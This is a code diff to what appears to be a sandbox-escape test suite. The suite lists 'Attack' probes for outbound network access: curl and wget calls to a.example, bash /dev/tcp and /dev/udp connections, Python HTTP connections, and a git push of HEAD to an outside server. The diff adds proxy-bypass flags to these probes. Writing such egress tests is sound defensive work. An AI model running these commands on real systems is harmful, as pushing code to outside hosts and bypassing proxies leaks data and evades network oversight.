@@ -77,7 +77,8 @@ WORLD = (
     ),
     Attack("curl", (wins(f"{_CURL} https://a.example/", f"{_CURL} http://{_NOBODY}/"),)),
     Attack(
-        "wget", (wins("wget -q -T 3 -t 1 -O - http://a.example/", f"wget -T 3 -t 1 -O - http://{_NOBODY}/"),)
+        "wget",
+        (wins(*(f"wget --no-proxy -T 3 -t 1 -O - http://{host}/" for host in ("a.example", _NOBODY))),),
     ),
     Attack(
         "ssh",
@@ -93,7 +94,8 @@ WORLD = (
         (bash(f"(: >/dev/tcp/{_NOBODY}/80) && {SHELL_WON}; (: >/dev/udp/{_NOBODY}/53) && {SHELL_WON}"),),
     ),
     Attack(
-        "python", (python("import urllib.request", "urllib.request.urlopen('http://a.example/', timeout=3)"),)
+        "python",
+        (python("import http.client", "http.client.HTTPConnection('a.example', timeout=3).connect()"),),
     ),
     Attack(
         "node",
@@ -108,8 +110,8 @@ WORLD = (
         "git to another server",
         (
             wins(
-                "timeout 5 git ls-remote https://a.example/x.git",
-                "timeout 5 git push https://a.example/x.git HEAD",
+                "timeout 5 git -c http.proxy= ls-remote https://a.example/x.git",
+                "timeout 5 git -c http.proxy= push https://a.example/x.git HEAD",
             ),
         ),
     ),
